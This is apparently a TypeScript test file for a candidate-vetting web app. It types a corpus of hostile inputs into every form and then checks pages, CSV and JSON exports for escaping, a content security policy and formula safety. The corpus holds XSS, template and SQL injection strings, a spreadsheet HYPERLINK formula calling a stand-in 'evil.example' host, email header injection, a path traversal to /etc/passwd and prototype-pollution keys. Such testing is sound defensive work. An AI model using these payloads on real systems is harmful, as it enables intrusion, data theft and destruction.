import t, { type Test } from 'tap';
import { BRIEF_PAGES } from '../../src/domain/brief/brief.ts';
import { ANSWER_STEPS } from '../../src/domain/interview/steps.ts';
import { CRITERIA } from '../../src/domain/scoring/rubric.ts';
import { toCells } from '../support/cells.ts';
import { formsOf } from '../support/forms.ts';
import { ownerPages } from '../support/pages.ts';
import { submittedWorld } from '../support/submitted.ts';
import type { TestBrowser } from '../support/world.ts';

t.setTimeout(300_000);

/** What people who mean harm type: each with the mark by which it is found again. */
const CORPUS: Record<string, string> = {
  scripts: '<script>HOSTILE()</script><img src=x onerror=HOSTILE()>',
  attributes: "\"><svg onload=HOSTILE()> ' onfocus=HOSTILE() autofocus='",
  templates: '{{constructor.constructor("HOSTILE")()}} {{{HOSTILE}}} $'.concat('{HOSTILE} <%= HOSTILE %>'),
  database: "'); DROP TABLE owners; -- HOSTILE",
  formulas: '=HYPERLINK("http://evil.example/?HOSTILE","x")',
  'more formulas': '@SUM(1+1)*cmd|HOSTILE',
  headers: 'HOSTILE\r\nBcc: evil@example.com\r\nContent-Type: text/html',
  paths: '../../../etc/passwd%00%2e%2e/HOSTILE',
  'text that turns around': '\u202Elive\u2066HOSTILE\u2069\u200F',
  'marks upon marks': `HOSTILE${'\u0301\u0316\u0338'.repeat(40)}`,
  'invisible letters': 'HOST\u200BILE HOSTILE\u2060\uFEFF\u00AD',
  'names of objects': '__proto__ constructor toString HOSTILE',
  'a letter that grows': `HOSTILE ﷺ${'ﷺ'.repeat(20)}`,
  emoji: 'HOSTILE 👩‍👩‍👧‍👦🏳️‍🌈🇯🇵',
};

/** What must stand nowhere as it was typed: there it would be markup, or a cell that runs. */
const RAW = [
  /<script>HOSTILE/,
  /<img src=x onerror/,
  /<svg onload=HOSTILE/,
  /="[^"<>]*"><svg/,
  /' onfocus=HOSTILE\(\) autofocus='/,
];

function refuseRaw(t: Test, body: string, where: string): void {
  for (const raw of RAW) if (raw.test(body)) t.match(body, 'never', `${where}: ${raw}`);
}

async function typeEverywhere(t: Test, browser: TestBrowser, pages: string[], text: string): Promise<number> {
  let forms = 0;
  for (const path of pages) {
    const { body, statusCode } = await browser.get(path);
    if (statusCode >= 500) t.fail(`${path}: ${statusCode}`);
    for (const { action, typed, shown, added } of formsOf(body)) {
      if (/\/(deletion|removal)$/.test(action)) continue;
      const fields = { ...shown, ...Object.fromEntries(typed.map((name) => [name, text])) };
      const answer = await browser.submit(action, { ...fields, _base: added._base ?? '' });
      if (answer.statusCode >= 500) t.fail(`${action}: ${answer.statusCode}`);
      refuseRaw(t, answer.body, action);
      forms += 1;
    }
  }
  return forms;
}

for (const [what, text] of Object.entries(CORPUS))
  t.test(`${what}: typed into every field of every form, then every page and file read`, async (t) => {
    const { world, owner, vetting, ids, base } = await submittedWorld(t, 'en');
    const { token, candidateId } = await world.invite(vetting, `${text} agency`);
    const candidate = await world.enter(token);
    const steps = ['ask', 'facts', 'check', 'decline', ...ANSWER_STEPS].map(
      (step) => `/interview/${candidateId}/${step}`,
    );
    await candidate.submit(`/interview/${candidateId}/welcome`, { respondentName: text, consent: 'yes' });
    await candidate.submit(`/interview/${candidateId}/facts`, {});
    const [first = ''] = ids;
    const pages = [
      ...(await ownerPages(world, vetting.id, first)),
      ...BRIEF_PAGES.map((page) => `${base}/brief/${page}`),
      ...CRITERIA.map((subject) => `${base}/reading/${subject}`),
      ...CRITERIA.map((subject) => `${base}/candidates/${first}/judgements/${subject}`),
    ];
    const forms =
      (await typeEverywhere(t, owner.browser, pages, text)) +
      (await typeEverywhere(t, candidate, steps, text));
    t.ok(forms > 40, `${forms} forms`);
    const names = Object.fromEntries(
      ['x[__proto__][polluted]', '__proto__', 'constructor'].map((name) => [name, text]),
    );
    t.ok((await owner.browser.submit('/vettings', names)).statusCode < 500);
    t.equal(({} as { polluted?: string }).polluted, undefined);

    let shown = 0;
    for (const [browser, path] of [
      ...pages.map((page) => [owner.browser, page] as const),
      ...steps.map((page) => [candidate, page] as const),
      ...(['csv', 'json'] as const).map((format) => [owner.browser, `${base}/export.${format}`] as const),
      [owner.browser, `${base}/history.csv`] as const,
    ]) {
      const { statusCode, body, headers } = await browser.get(path);
      if (statusCode >= 500) t.fail(`${path}: ${statusCode}`);
      if (body.includes('HOSTILE')) shown += 1;
      if (String(headers['content-type']).startsWith('text/html')) {
        refuseRaw(t, body, path);
        if (!String(headers['content-security-policy']).includes("script-src 'self'"))
          t.fail(`${path}: no policy`);
      }
      if (path.endsWith('.csv'))
        for (const cell of toCells(body))
          if (/^[\s]*[=+@＝-][^\d]/.test(cell)) t.fail(`${path}: ${cell} runs`);
      if ('bcc' in headers) t.fail(`${path}: a header came in`);
    }
    t.ok(shown >= 8, `it is shown on ${shown} pages`);
    const { owners } = await world.db
      .selectFrom('owners')
      .select(({ fn }) => fn.countAll<number>().as('owners'))
      .executeTakeFirstOrThrow();
    t.ok(Number(owners) >= 1, 'and every table is there');
  });
